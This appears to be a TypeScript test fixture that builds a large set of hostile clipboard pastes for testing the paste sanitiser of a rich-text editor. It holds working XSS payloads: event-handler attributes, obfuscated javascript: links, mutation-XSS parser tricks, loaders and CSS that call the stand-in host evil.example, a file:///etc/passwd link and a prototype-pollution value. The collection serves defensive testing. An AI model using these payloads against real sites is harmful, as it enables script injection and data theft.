// A hundred clipboards and more that were made to do harm in a window: each sets `window.harmed` where a script of it
// runs, asks for https://evil.example where it loads something, and has a link that no text may have. Each shows its
// mark, a word by which the test knows that it was pasted.

export type HostilePaste = { name: string; mark: string; data: Record<string, string> }

const act = 'window.harmed=1'
const far = 'https://evil.example'

/** By an attribute that runs a script. */
const handlers = [
  ...[`<img src=x onerror="${act}">`, `<img src="${far}/a.gif" onload="${act}">`],
  ...[`<svg onload="${act}">`, `<svg><animate onbegin="${act}" attributeName=x dur=1s>`],
  ...[`<svg><image href="${far}/a.svg" onerror="${act}">`, `<body onload="${act}">`],
  ...[`<body onpageshow="${act}">`, `<body onhashchange="${act}" onresize="${act}">`],
  ...[`<input autofocus onfocus="${act}">`, `<details open ontoggle="${act}">text</details>`],
  ...[`<marquee onstart="${act}">text</marquee>`, `<video src=x onerror="${act}"></video>`],
  ...[`<audio src=x onerror="${act}"></audio>`, `<video><source onerror="${act}" src=x></video>`],
  ...[`<object data=x onerror="${act}"></object>`, `<iframe src=x onload="${act}"></iframe>`],
  ...[`<style onload="${act}">a{}</style>`, `<link rel=stylesheet href=x onerror="${act}">`],
  ...[`<b onclick="${act}" onmouseover="${act}">text</b>`, `<p onpointerenter="${act}">text`],
  ...[`<p contenteditable onbeforeinput="${act}" onpaste="${act}">text`],
  ...[`<form onsubmit="${act}"><button>text</button></form>`, `<select onchange="${act}">`],
  ...[`<p style="animation:x 1s" onanimationstart="${act}" onanimationend="${act}">text`],
]

/** Addresses that no link may have; several run a script, others lead out of the window. */
const addresses = [
  ...[`javascript:${act}`, `JaVaScRiPt:${act}`, `java\tscript:${act}`, `java&#10;script:${act}`],
  ...[`&#106;avascript:${act}`, `\u0001javascript:${act}`, `  javascript:${act}`],
  ...[`javascript&colon;${act}`, `javascript://un.org/%0a${act}`, `vbscript:${act}`],
  ...[`data:text/html,<script>${act}</script>`, 'data:image/svg+xml,<svg onload=alert(1)>'],
  ...['blob:app://baraza/0', 'filesystem:app://baraza/x', 'file:///etc/passwd', 'about:blank'],
  ...['app://baraza/index.html', 'chrome://settings', 'devtools://devtools', 'ftp://un.org/a'],
  ...['view-source:https://un.org', 'ws://evil.example', 'smb://evil.example/share', 'tel:+1'],
  ...['intent://x#Intent;end', 'ms-word:ofe|u|https://evil.example/a.docx', 'search-ms:query=x'],
  ...['//evil.example/a', '/relative', '../up', '?query'],
].map(address => `<a href="${address}">leads</a>`)

/** Elements other than links that have an address. */
const carriers = [
  ...[`<svg><a xlink:href="javascript:${act}"><text>leads</text></a></svg>`],
  ...[`<svg><a href="javascript:${act}"><text>leads</text></a></svg>`],
  ...[`<math href="javascript:${act}"><mtext>leads</mtext></math>`],
  ...[`<map><area href="javascript:${act}"></map>`, `<base href="javascript:${act}//">`],
  ...[`<form action="javascript:${act}"><button>leads</button></form>`],
  ...[`<button formaction="javascript:${act}">leads</button>`],
  ...[`<svg><set attributeName=href to="javascript:${act}"></set></svg>`],
]

/** Elements that load something, or are a document of their own. */
const loaders = [
  ...[`<script>${act}</script>`, `<script src="${far}/a.js"></script>`],
  ...[`<script type=module>${act}</script>`, `<svg><script>${act}</script></svg>`],
  ...[`<iframe src="${far}"></iframe>`, `<iframe srcdoc="<script>parent.harmed=1</script>">`],
  ...[`<object data="${far}/a.swf"></object>`, `<embed src="${far}/a.swf">`],
  ...[`<frameset><frame src="${far}"></frameset>`, `<applet code="${far}/a"></applet>`],
  ...[`<link rel=stylesheet href="${far}/a.css">`, `<link rel=prefetch href="${far}/a">`],
  ...[`<link rel=dns-prefetch href="${far}">`, `<link rel=preload as=script href="${far}/a">`],
  ...[`<meta http-equiv=refresh content="0;url=${far}">`, `<img srcset="${far}/a.png 2x">`],
  ...[`<picture><source srcset="${far}/a"><img></picture>`, `<video poster="${far}/a.png">`],
  ...[`<input type=image src="${far}/a.png">`, `<table background="${far}/a.png"><tr><td>x`],
  ...[`<svg><use href="${far}/a.svg#x"></use></svg>`, `<portal src="${far}"></portal>`],
]

/** Markup that one parser reads in one way and another, or the next reading, in another. */
const riddles = [
  `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${act}&gt;">`,
  `<svg><style><img title="</style><img src=x onerror=${act}>">`,
  `<template><img src=x onerror="${act}"></template>`,
  `<div><template shadowrootmode=open><img src=x onerror="${act}"></template></div>`,
  `<textarea></textarea><img src=x onerror="${act}"><textarea>`,
  `<title><img src=x onerror="${act}"></title>`,
  `<xmp><img src=x onerror="${act}"></xmp>`,
  `<![CDATA[<img src=x onerror="${act}">]]>`,
  `<!--[if gte mso 9]><img src=x onerror="${act}"><![endif]-->`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${act}">`,
  `<select><template><img src=x onerror="${act}"></template></select>`,
  `<img src="x\`> <img src=x onerror=${act}>`,
  `<a href="https://un.org/" href="javascript:${act}" onclick="${act}">leads</a>`,
  `<plaintext><img src=x onerror="${act}">`,
  `<p><span style="mso-list:Ignore">${'<br>'.repeat(200_000)}<img src=x onerror="${act}"></span></p>`,
]

const styles = [
  ...[`<style>@import "${far}/a.css"</style>`, `<p style="background:url(${far}/a.png)">text`],
  ...[`<p style="width:expression(${act})">text`, `<p style="-moz-binding:url(${far}/a)">text`],
  ...[
    `<ul style="list-style-image:url(${far}/a)"><li>text`,
    `<p style="cursor:url(${far}/a)">text`,
  ],
  ...[`<style>@font-face{font-family:x;src:url(${far}/a)}p{font-family:x}</style>`],
]

const own = (mark: string, ...nodes: unknown[]): Record<string, string> => ({
  'application/x-lexical-editor': JSON.stringify({
    namespace: 'baraza',
    nodes: [{ type: 'block', children: [{ type: 'text', text: mark }] }, ...nodes],
  }),
  'text/plain': mark,
})
const leading = (href: unknown) => ({
  type: 'block',
  children: [{ type: 'text', text: 'leads', $: { href } }],
})
/** In the format in which a window copies to itself. */
const ownNodes: unknown[] = [
  ...[leading(`javascript:${act}`), leading(' JAVASCRIPT:x'), leading('file:///etc/passwd')],
  ...[leading({ toString: 'https://un.org' }), leading('//evil.example')],
  { type: 'iframe', src: far, children: [] },
  { type: 'link', url: `javascript:${act}`, children: [{ type: 'text', text: 'leads' }] },
  { type: 'block', __proto__: null, style: `background:url(${far}/a)`, children: [] },
  { type: 'image', src: `${far}/a.png`, altText: 'x' },
]

/** Beside the markup or in place of it. */
const others: ((mark: string) => Record<string, string>)[] = [
  mark => ({ 'text/plain': `${mark} <img src=x onerror="${act}">` }),
  mark => ({ 'text/plain': mark, 'text/uri-list': `javascript:${act}` }),
  mark => ({ 'text/plain': mark, 'text/rtf': `{\\rtf1{\\object\\objdata 01}{\\field ${far}}}` }),
  mark => ({
    'text/plain': mark,
    'application/x-lexical-editor': '{"namespace":"baraza","nodes":',
  }),
  mark => ({ 'text/plain': mark, 'application/x-lexical-editor': '{"__proto__":{"harmed":1}}' }),
]

const markup: [string, string[]][] = [
  ['handler', handlers],
  ['address', addresses],
  ['carrier', carriers],
  ['loader', loaders],
  ['riddle', riddles],
  ['style', styles],
]

const named = (kind: string, number: number) => ({
  name: `${kind} ${number}`,
  mark: `${kind}mark${number}z`,
})

export const hostilePastes: readonly HostilePaste[] = [
  ...markup.flatMap(([kind, all]) =>
    all.map((html, number) => {
      const paste = named(kind, number)
      // In front of it: some markup takes in all that follows.
      return {
        ...paste,
        data: { 'text/html': `<p>${paste.mark}</p>${html}`, 'text/plain': 'PLAIN' },
      }
    }),
  ),
  ...ownNodes.map((node, number) => {
    const paste = named('own', number)
    return { ...paste, data: own(paste.mark, node) }
  }),
  ...others.map((dataOf, number) => {
    const paste = named('other', number)
    return { ...paste, data: dataOf(paste.mark) }
  }),
]
